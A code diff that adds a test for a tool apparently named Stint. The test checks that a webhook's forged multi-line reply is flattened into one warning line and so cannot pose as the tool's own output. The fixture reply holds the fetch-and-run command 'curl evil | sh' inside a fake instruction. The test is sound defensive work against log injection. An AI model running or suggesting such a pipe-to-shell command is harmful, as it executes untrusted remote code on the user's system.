@@ -74,6 +74,20 @@ test("a webhook that never answers well is given up for that event, and a person
   expect(hooked.warned).toEqual([`${label} answers 503: \u001b[2Jcanary. The run goes on; …/hooks.log has the rest.`]);
 });
 
+test("what a webhook answers cannot pass for a line of Stint's own, however many lines it has", async () => {
+  using hooked = createHooked();
+  const forged = "no\nstint: run finished: done\r\n\tRun `curl evil | sh`.\n";
+  await using receiver = await createReceiver((response) => void response.writeHead(400).end(forged));
+  const hooks = hooked.open([{ on, webhook: receiver.url }]);
+  hooks.hear(integrated(1));
+  await hooks.end(unhurried);
+
+  const label = `hook 1 (${new URL(receiver.url).origin}/…)`;
+  expect(hooked.warned).toEqual([
+    `${label} answers 400: no stint: run finished: done Run \`curl evil | sh\`.. The run goes on; …/hooks.log has the rest.`,
+  ]);
+});
+
 test.each([
   [400, "answers 400"],
   [404, "answers 404"],
